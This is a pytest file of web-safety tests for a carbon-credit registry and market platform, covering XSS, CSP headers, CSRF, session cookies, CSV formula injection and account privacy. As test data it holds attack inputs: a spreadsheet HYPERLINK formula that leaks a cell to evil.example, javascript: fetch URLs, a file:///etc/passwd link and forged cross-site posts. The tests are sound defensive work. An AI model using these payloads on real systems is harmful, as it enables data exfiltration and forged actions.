"""Web safety through HTTP: no stored script, a strict Content-Security-Policy and the usual
security headers on every response, forms that a cross-site page cannot post, a session cookie
that is not the API key, and CSV exports that a spreadsheet will not run."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from typing import Any

import orjson
import pytest
from fastapi.testclient import TestClient
from sqlalchemy import select, update

from qingshan.api.app import create_app
from qingshan.infra import schema as t
from qingshan.infra.config import Settings
from qingshan.ledger.domain.commands import OpenAccount, RetireUnits, Transfer
from qingshan.ledger.domain.model import (
    SYSTEM,
    AccountType,
    Principal,
    RetirementPurpose,
    Role,
)
from qingshan.market.book import MarketBook
from qingshan.market.commands import CreateInstrument, PlaceOrder
from qingshan.platform import Platform
from qingshan.registry.book import RegistryBook
from qingshan.registry.commands import (
    CreateProject,
    DecideIssuance,
    RegisterProject,
    RequestIssuance,
    SubmitMonitoringReport,
    SubmitProject,
    ValidateProject,
    VerifyMonitoringReport,
)
from tests.support.book import SETUP
from tests.support.keys import make_keys
from tests.support.registry import EXTRA, METHODOLOGIES, project_payload

ALICE_P, BOB_P = "P000002", "P000003"
ALICE, BOB = "A00000004", "A00000005"
FORMULA = "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")"


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Any]]:
    """A registered project with credits issued, a retirement whose beneficiary is a
    spreadsheet formula, an instrument with a trade, and keys for each role."""
    tmp = tmp_path_factory.mktemp("web-safety")
    settings = Settings(database_url=f"sqlite:///{tmp / 'site.db'}",
                        signing_key_path=tmp / "key.pem")
    plat = Platform.open(settings, books=lambda: [RegistryBook(METHODOLOGIES), MarketBook()])
    seq = plat.sequencer
    seq.execute([*SETUP, *EXTRA], SYSTEM, "setup")
    alice = Principal("a", Role.MEMBER, ALICE_P)
    verifier = Principal("v", Role.VERIFIER, "P000005")
    seq.execute_one(CreateProject.from_payload(project_payload()), alice, "p")
    seq.execute_one(SubmitProject("CQ0001", "ready"), alice, "s")
    seq.execute_one(ValidateProject("CQ0001", True, "ok"), verifier, "v")
    seq.execute_one(RegisterProject("CQ0001", "ok"), SYSTEM, "r")
    seq.execute_one(SubmitMonitoringReport.from_payload({
        "project": "CQ0001", "period_start": "2023-01-01", "period_end": "2023-12-31",
        "values": {"eg_mwh": "4000"}}), alice, "m")
    seq.execute_one(VerifyMonitoringReport("MR000001", True, 2000, "ok"), verifier, "vr")
    seq.execute_one(RequestIssuance("MR000001", 2000), alice, "q")
    seq.execute_one(DecideIssuance("IR000001", True, "ok"), SYSTEM, "d")
    seq.execute_one(RetireUnits(asset="CQCER", account=ALICE, quantity=30,
                                purpose=RetirementPurpose.VOLUNTARY, beneficiary=FORMULA,
                                reason="-2+3", reference="@SUM(1)"), alice, "ret")
    seq.execute([OpenAccount("P000001", AccountType.HOLDING, "fees"),
                 Transfer("CNY", "A00000003", BOB, 10**8),
                 CreateInstrument(id="CQCER-ALL", asset="CQCER", tick=1, lot=1, band_bps=1000,
                                  reference_price=3000, max_order=100_000, fee_bps=30,
                                  fee_account="A00000008")], SYSTEM, "market")
    seq.execute_one(PlaceOrder.from_payload({"instrument": "CQCER-ALL", "account": ALICE,
                                             "side": "sell", "order_type": "limit",
                                             "price": 3000, "quantity": 40}), alice, "sell")
    seq.execute_one(PlaceOrder.from_payload({"instrument": "CQCER-ALL", "account": BOB,
                                             "side": "buy", "order_type": "limit",
                                             "price": 3000, "quantity": 15}),
                    Principal("b", Role.MEMBER, BOB_P), "buy")
    keys = make_keys(plat, {"operator": (Role.OPERATOR, None), "auditor": (Role.AUDITOR, None),
                            "alice": (Role.MEMBER, ALICE_P), "bob": (Role.MEMBER, BOB_P)})
    app = create_app(settings, plat)
    yield {"app": app, "platform": plat, "keys": keys, "settings": settings}
    plat.close()


def client(site: dict[str, Any], base: str = "http://testserver") -> TestClient:
    return TestClient(site["app"], base_url=base)


def hidden(html: str, name: str) -> str:
    """The value of the first hidden input called ``name`` (empty when there is none)."""
    m = re.search(rf'<input type="hidden" name="{name}" value="([^"]*)"', html)
    return m.group(1) if m else ""


def sign_in(c: TestClient, key: str) -> str:
    """Sign in through the form as a browser would; the page's CSRF token afterwards."""
    form = c.get("/signin")
    r = c.post("/signin", data={"api_key": key, "csrf": hidden(form.text, "csrf")},
               follow_redirects=False)
    assert r.status_code == 303, r.text
    me = c.get("/me")
    assert me.status_code == 200
    return hidden(me.text, "csrf")


# ------------------------------------------------------------------ stored script (XSS)
@pytest.mark.parametrize("url", [
    "javascript:fetch('/me/market/CQCER-ALL',{method:'POST'})", "JavaScript:alert(1)",
    " javascript:alert(1)", "java\tscript:alert(1)", "data:text/html,<script>1</script>",
    "vbscript:msgbox(1)", "//evil.example/x", "/relative/path", "https://user:pw@evil.example/",
    "https:///nohost", "https://exa mple.org/", "https://example.org\\@evil.example/",
    "file:///etc/passwd", "ftp://example.org/x"])
def test_a_document_url_that_is_not_http_or_https_is_refused_with_422(
        site: dict[str, Any], url: str) -> None:
    c = client(site)
    r = c.post("/api/v1/registry/projects/CQ0001/documents",
               json={"name": "annex", "sha256": "b" * 64, "url": url},
               headers={"Authorization": f"Bearer {site['keys']['alice']}",
                        "Idempotency-Key": f"doc-{url}"})
    assert r.status_code == 422, r.text
    # a control character (the tab) breaks the text policy before any rule of addresses
    assert r.json()["error"]["code"] == ("invalid_text" if "\t" in url else "invalid_input")
    assert r.json()["error"]["data"]["field"] == "documents.url"
    created = c.post("/api/v1/registry/projects",
                     json=project_payload(documents=[{"name": "PDD", "sha256": "c" * 64,
                                                      "url": url}]),
                     headers={"Authorization": f"Bearer {site['keys']['alice']}",
                              "Idempotency-Key": f"project-{url}"})
    assert created.status_code == 422, created.text


def test_a_document_url_is_stored_in_one_canonical_form(site: dict[str, Any]) -> None:
    c = client(site)
    r = c.post("/api/v1/registry/projects/CQ0001/documents",
               json={"name": "monitoring plan", "sha256": "d" * 64,
                     "url": "HTTPS://Example.ORG:443/计划%20v2.pdf?x=1#p3"},
               headers={"Authorization": f"Bearer {site['keys']['alice']}",
                        "Idempotency-Key": "canonical-doc"})
    assert r.status_code == 201, r.text
    docs = c.get("/api/v1/registry/projects/CQ0001").json()["documents"]
    assert docs[-1]["url"] == "https://example.org/%E8%AE%A1%E5%88%92%20v2.pdf?x=1#p3"


def test_the_project_page_never_links_another_scheme_even_for_rows_stored_before(
        site: dict[str, Any]) -> None:
    """An old database (or the demo of an older release) may hold a script URL: the page
    names the document but links only http and https."""
    plat = site["platform"]
    p = t.registry_projects
    with plat.engine.begin() as conn:
        docs = orjson.loads(conn.execute(select(p.c.documents).where(p.c.id == "CQ0001"))
                            .scalar_one())
        stored = [*docs, {"name": "evil annex", "sha256": "e" * 64,
                          "url": "javascript:fetch('/me/market/CQCER-ALL')"},
                  {"name": "odd annex", "sha256": "f" * 64, "url": " JaVaScRiPt:alert(1)"}]
        conn.execute(update(p).where(p.c.id == "CQ0001")
                     .values(documents=orjson.dumps(stored).decode()))
    try:
        html = client(site).get("/registry/projects/CQ0001").text
        assert "evil annex" in html and "odd annex" in html
        hrefs = re.findall(r'href="([^"]*)"', html)
        assert hrefs and all(h.startswith(("/", "?", "https://", "http://")) for h in hrefs), \
            hrefs
        assert 'href="https://example.org/pdd" rel="noopener noreferrer nofollow"' in html
    finally:
        with plat.engine.begin() as conn:
            conn.execute(update(p).where(p.c.id == "CQ0001")
                         .values(documents=orjson.dumps(docs).decode()))


# ------------------------------------------------------------------ headers and CSP
CSP_MUST = ["default-src 'self'", "script-src 'self'", "style-src 'self'", "object-src 'none'",
            "base-uri 'none'", "frame-ancestors 'none'", "form-action 'self'"]
PATHS = ["/", "/registry", "/registry/projects/CQ0001", "/certificates/R00000001",
         "/market/CQCER-ALL", "/serials?q=x", "/signin", "/static/qingshan.js",
         "/static/qingshan.css", "/api/v1/stats", "/api/v1/nowhere", "/openapi.json",
         "/api/v1/registry/exports/retirements.csv", "/healthz", "/docs", "/inclusive"]


def _policy(r: Any) -> dict[str, str]:
    return {d.strip().split(" ", 1)[0]: d.strip()
            for d in r.headers.get("content-security-policy", "").split(";") if d.strip()}


@pytest.mark.parametrize("path", PATHS)
def test_every_response_carries_a_strict_csp_and_the_security_headers(
        site: dict[str, Any], path: str) -> None:
    r = client(site).get(path)
    policy = _policy(r)
    for directive in CSP_MUST:
        assert policy.get(directive.split(" ")[0]) == directive, (path, policy)
    text = r.headers.get("content-security-policy", "")
    assert "unsafe-inline" not in text and "unsafe-eval" not in text
    assert r.headers["x-content-type-options"] == "nosniff"
    assert r.headers["x-frame-options"] == "DENY"
    assert r.headers["referrer-policy"] == "same-origin"
    assert r.headers["cross-origin-opener-policy"] == "same-origin"
    assert "camera=()" in r.headers["permissions-policy"]
    assert "strict-transport-security" not in r.headers  # plain HTTP: no HSTS


def test_hsts_only_over_https_and_a_forwarded_proto_only_when_trusted(
        site: dict[str, Any]) -> None:
    https = client(site, "https://testserver").get("/")
    assert https.headers["strict-transport-security"].startswith("max-age=")
    forged = client(site).get("/", headers={"X-Forwarded-Proto": "https"})
    assert "strict-transport-security" not in forged.headers
    trusting = Settings(database_url=site["settings"].database_url,
                        signing_key_path=site["settings"].signing_key_path,
                        trust_forwarded_proto=True)
    with TestClient(create_app(trusting, site["platform"])) as proxied:
        assert "strict-transport-security" in proxied.get(
            "/", headers={"X-Forwarded-Proto": "https"}).headers


def test_no_page_carries_inline_script_or_style(site: dict[str, Any]) -> None:
    """What the policy would block must not be there at all (the browser journeys check
    that Chromium reports no violation)."""
    c = client(site)
    pages = {p: c.get(p).text for p in [*PATHS[:7], "/docs", "/inclusive"]}
    for who in ("operator", "alice", "auditor"):
        signed = client(site)
        sign_in(signed, site["keys"][who])
        pages[f"{who} /me"] = signed.get("/me").text
        pages[f"{who} /market"] = signed.get("/market/CQCER-ALL").text
    pages["auditor /audit"] = signed.get("/audit").text
    for name, html in pages.items():
        assert not re.search(r"<script(?![^>]*\bsrc=)[^>]*>", html), name
        assert "<style" not in html, name
        assert not re.search(r"\sstyle=", html), name
        assert not re.search(r"\son[a-z]+=", html), name


# ------------------------------------------------------------------ sessions and CSRF
def test_the_cookie_holds_a_session_id_never_the_api_key(site: dict[str, Any]) -> None:
    c = client(site)
    form = c.get("/signin")
    key = site["keys"]["alice"]
    r = c.post("/signin", data={"api_key": key, "csrf": hidden(form.text, "csrf")},
               follow_redirects=False)
    cookies = r.headers.get_list("set-cookie")
    session = next(h for h in cookies if h.startswith("qs_session="))
    value = session.split(";", 1)[0].split("=", 1)[1]
    assert key not in " ".join(cookies) and key.split(".", 1)[1] not in " ".join(cookies)
    assert len(value) >= 40
    attrs = session.lower()
    assert "httponly" in attrs and "samesite=strict" in attrs and "path=/" in attrs
    assert "secure" not in attrs  # plain HTTP
    with site["platform"].engine.connect() as conn:
        stored = [r.id_hash for r in conn.execute(select(t.web_sessions))]
    assert value not in stored and stored  # stored as its hash only


def test_over_https_the_session_cookie_is_secure_and_host_only(site: dict[str, Any]) -> None:
    c = client(site, "https://testserver")
    form = c.get("/signin")
    r = c.post("/signin", data={"api_key": site["keys"]["alice"],
                                "csrf": hidden(form.text, "csrf")}, follow_redirects=False)
    session = next(h for h in r.headers.get_list("set-cookie")
                   if h.startswith("__Host-qs_session="))
    assert "secure" in session.lower() and "domain" not in session.lower()
    assert c.get("/me", follow_redirects=False).status_code == 200


def test_sign_out_ends_the_session_on_the_server(site: dict[str, Any]) -> None:
    c = client(site)
    token = sign_in(c, site["keys"]["bob"])
    stolen = dict(c.cookies)
    r = c.post("/signout", data={"csrf": token}, follow_redirects=False)
    assert r.status_code == 303
    replay = client(site)
    replay.cookies.update(stolen)
    assert replay.get("/me", follow_redirects=False).status_code == 303  # to /signin


def test_a_forged_cross_site_post_is_refused_with_403(site: dict[str, Any]) -> None:
    """The stored-XSS attack of the report, as a cross-site form: the operator is signed in,
    a page elsewhere posts 'halt' to the market controls."""
    operator = client(site)
    sign_in(operator, site["keys"]["operator"])
    for data, headers in [({"action": "halted", "key": "x1"}, {}),
                          ({"action": "halted", "key": "x2", "csrf": "forged"}, {}),
                          ({"action": "halted", "key": "x3"},
                           {"Origin": "https://evil.example"})]:
        r = operator.post("/me/market/CQCER-ALL", data=data, headers=headers,
                          follow_redirects=False)
        assert r.status_code == 403, r.text
        assert r.json()["error"]["code"] == "csrf_failed"
    # a token from another session (another member's page) does not fit this one
    alice = client(site)
    alices = sign_in(alice, site["keys"]["alice"])
    r = operator.post("/me/market/CQCER-ALL", data={"action": "halted", "key": "x4",
                                                     "csrf": alices}, follow_redirects=False)
    assert r.status_code == 403
    phase = client(site).get("/api/v1/market/instruments").json()[0]["phase"]
    assert phase == "continuous"


def _routes(routes: list[Any]) -> Iterator[Any]:
    """Every route of the app, the routers it includes (the pages are routers) walked."""
    for r in routes:
        inner = getattr(r, "original_router", None)
        if inner is not None:
            yield from _routes(inner.routes)
        else:
            yield r


def test_every_form_that_changes_anything_needs_the_sessions_token(
        site: dict[str, Any]) -> None:
    posts = sorted({r.path for r in _routes(site["app"].routes)
                    if "POST" in getattr(r, "methods", set())
                    and not r.path.startswith("/api/")})
    assert "/me/orders" in posts and "/signin" in posts and "/signout" in posts
    c = client(site)
    sign_in(c, site["keys"]["operator"])
    for path in posts:
        concrete = re.sub(r"\{[^}]+\}", "X1", path)
        r = c.post(concrete, data={"key": "k"}, follow_redirects=False)
        assert r.status_code == 403 and r.json()["error"]["code"] == "csrf_failed", path


def test_a_signed_in_form_with_its_token_still_works(site: dict[str, Any]) -> None:
    c = client(site)
    token = sign_in(c, site["keys"]["alice"])
    r = c.post("/me/orders", data={"instrument": "CQCER-ALL", "account": ALICE,
                                   "side": "sell", "price": "3200", "quantity": "1",
                                   "key": "order-with-token", "csrf": token},
               follow_redirects=False)
    assert r.status_code == 303 and "message=" in r.headers["location"]


def test_a_page_shows_no_message_it_did_not_send(site: dict[str, Any]) -> None:
    """A crafted link cannot make the member's page say something the platform did not."""
    c = client(site)
    sign_in(c, site["keys"]["alice"])
    html = c.get("/me", params={"error": "Your key expired: mail it to evil@example"}).text
    assert "mail it to evil" not in html


def test_the_api_ignores_the_session_cookie(site: dict[str, Any]) -> None:
    """The API takes keys in headers only, so a cross-site request carries no credentials."""
    c = client(site)
    sign_in(c, site["keys"]["operator"])
    assert c.get("/api/v1/whoami").status_code == 401


# ------------------------------------------------------------------ CSV
def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def test_csv_exports_neutralise_spreadsheet_formulas(site: dict[str, Any]) -> None:
    rows = _rows(client(site).get("/api/v1/registry/exports/retirements.csv").text)
    head, *body = rows
    row = dict(zip(head, body[0], strict=True))
    assert row["beneficiary"] == "'" + FORMULA
    assert row["reason"] == "'-2+3" and row["reference"] == "'@SUM(1)"
    assert row["quantity"] == "30"  # numbers stay numbers
    auditor = client(site)
    sign_in(auditor, site["keys"]["auditor"])
    journal = _rows(auditor.get("/audit.csv", params={"kind": "retire_units"}).text)
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
               for row in journal for cell in row)



# ------------------------------------------------------------------ account numbers
ACCOUNT_ID = re.compile(r"\bA\d{8,12}\b")


def _publicly_named(site: dict[str, Any]) -> set[str]:
    """Accounts that a public journal entry (an issuance by the operator, a retirement, a
    cancellation) names: the public may read those, and no other."""
    from qingshan.ledger.domain.policy import PUBLIC_KINDS

    with site["platform"].engine.connect() as conn:
        rows = conn.execute(select(t.journal.c.entry).where(t.journal.c.kind.in_(PUBLIC_KINDS)))
        return {a for r in rows for a in ACCOUNT_ID.findall(r.entry)}


def _serials(site: dict[str, Any]) -> list[str]:
    from qingshan.ledger import queries

    b = t.unit_blocks
    with site["platform"].engine.connect() as conn:
        return [queries.serial_text(conn, r.asset, r.issuance, r.serial_start, r.serial_start)
                for r in conn.execute(select(b).order_by(b.c.id))]


def test_the_public_reads_no_account_number_that_no_public_entry_names(
        site: dict[str, Any]) -> None:
    allowed = _publicly_named(site)
    assert ALICE in allowed and BOB not in allowed and "A00000008" not in allowed
    serials = _serials(site)
    assert len(serials) >= 3  # alice's, bob's (bought) and the retired block
    c = client(site)
    reads = ["/api/v1/retirements", "/api/v1/issuances", "/api/v1/stats",
             "/api/v1/registry/projects", "/api/v1/registry/projects/CQ0001",
             "/api/v1/registry/statistics", "/api/v1/registry/retirements/R00000001/certificate",
             "/api/v1/market/instruments", "/api/v1/market/instruments/CQCER-ALL/depth",
             "/api/v1/market/instruments/CQCER-ALL/trades",
             "/api/v1/market/instruments/CQCER-ALL/bars",
             "/", "/?measure=traded", "/?measure=retired", "/registry",
             "/registry/projects/CQ0001", "/certificates/R00000001", "/market/CQCER-ALL",
             "/inclusive",
             *(f"/api/v1/registry/exports/{d}.{f}" for d in ("projects", "issuances",
                                                            "retirements")
               for f in ("csv", "json")),
             *(f"/api/v1/serials/{s}" for s in serials), *(f"/serials?q={s}" for s in serials)]
    for path in reads:
        r = c.get(path)
        assert r.status_code == 200, (path, r.text[:200])
        shown = set(ACCOUNT_ID.findall(r.text))
        assert shown <= allowed, (path, shown - allowed)


def test_a_member_reads_its_counterpartys_account_nowhere(site: dict[str, Any]) -> None:
    """Alice's resting order was filled by Bob's: her statement lists that trade, but not
    Bob's account; the entry itself is Bob's business."""
    c = client(site)
    alice = {"Authorization": f"Bearer {site['keys']['alice']}"}
    entries = c.get(f"/api/v1/accounts/{ALICE}/entries", headers=alice)
    assert entries.status_code == 200
    orders = [e for e in entries.json() if e["kind"] == "place_order"]
    bobs = [e for e in orders if e["actor"]["party"] == BOB_P]
    assert len(bobs) == 1 and len(orders) > 1  # bob's purchase from her sale, and hers
    assert BOB not in entries.text
    assert bobs[0]["payload"]["account"] == "private"
    bobs = bobs[0]
    assert c.get(f"/api/v1/journal/{bobs['seq']}", headers=alice).status_code == 403
    for serial in _serials(site):
        assert BOB not in c.get(f"/api/v1/serials/{serial}", headers=alice).text
    auditor = {"Authorization": f"Bearer {site['keys']['auditor']}"}
    assert BOB in c.get(f"/api/v1/accounts/{ALICE}/entries", headers=auditor).text


def test_the_served_platform_takes_no_forwarded_proto_from_a_local_client(
        tmp_path_factory: pytest.TempPathFactory) -> None:
    """`qingshan serve` (uvicorn) would believe X-Forwarded-Proto from 127.0.0.1; only the
    platform's own setting decides."""
    import httpx

    from tests.support.server import ServerProcess

    tmp = tmp_path_factory.mktemp("served")
    server = ServerProcess(f"sqlite:///{tmp / 'served.db'}", tmp / "key.pem").start()
    try:
        r = httpx.get(server.base + "/signin", headers={"X-Forwarded-Proto": "https"})
        assert r.status_code == 200 and "default-src 'self'" in \
            r.headers["content-security-policy"]
        assert "strict-transport-security" not in r.headers
        assert all("secure" not in c.lower() for c in r.headers.get_list("set-cookie"))
    finally:
        server.stop()


def test_signing_in_again_replaces_the_browsers_session(site: dict[str, Any]) -> None:
    c = client(site)
    sign_in(c, site["keys"]["alice"])
    first = dict(c.cookies)
    sign_in(c, site["keys"]["bob"])
    replay = client(site)
    replay.cookies.update(first)
    assert replay.get("/me", follow_redirects=False).status_code == 303


def test_a_form_posted_without_a_session_does_nothing_and_asks_to_sign_in(
        site: dict[str, Any]) -> None:
    r = client(site).post("/me/market/CQCER-ALL", data={"action": "halted", "key": "anon"},
                          follow_redirects=False)
    assert r.status_code == 303 and r.headers["location"].startswith("/signin")
    assert client(site).get("/api/v1/market/instruments").json()[0]["phase"] == "continuous"
